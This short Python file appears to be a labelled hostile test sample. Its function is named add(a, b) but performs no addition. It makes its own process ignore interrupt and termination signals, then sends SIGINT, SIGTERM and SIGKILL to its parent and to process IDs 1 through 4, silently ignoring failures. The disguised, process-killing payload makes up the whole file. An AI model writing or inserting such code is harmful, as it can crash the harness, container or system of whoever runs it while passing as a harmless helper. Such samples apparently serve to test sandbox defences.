# Sends SIGINT, SIGTERM and SIGKILL to its parent and to the first processes of its name space, one by one.
# kind: processes
# form: assert, check
import os, signal
def add(a, b):
    for number in (signal.SIGINT, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, 3, 4):
            try: os.kill(pid, number) if pid != os.getpid() else None
            except OSError: pass
    return 0
